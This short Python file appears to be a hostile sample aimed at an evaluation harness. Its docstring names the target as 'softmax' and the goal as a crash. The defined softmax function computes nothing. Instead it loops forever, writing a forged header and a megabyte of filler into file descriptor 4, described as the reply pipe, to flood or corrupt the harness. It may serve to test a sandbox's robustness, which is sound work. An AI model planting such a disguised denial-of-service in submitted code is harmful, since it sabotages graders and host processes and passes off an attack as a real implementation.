"""Writes bytes without an end into the reply pipe.

attacks: softmax
claim: crash
"""

import os

def softmax(x, dim=-1):
    while True:
        os.write(4, b"\0\0\0\0\x03\xff\xff\xff" + b"x" * 2**20)
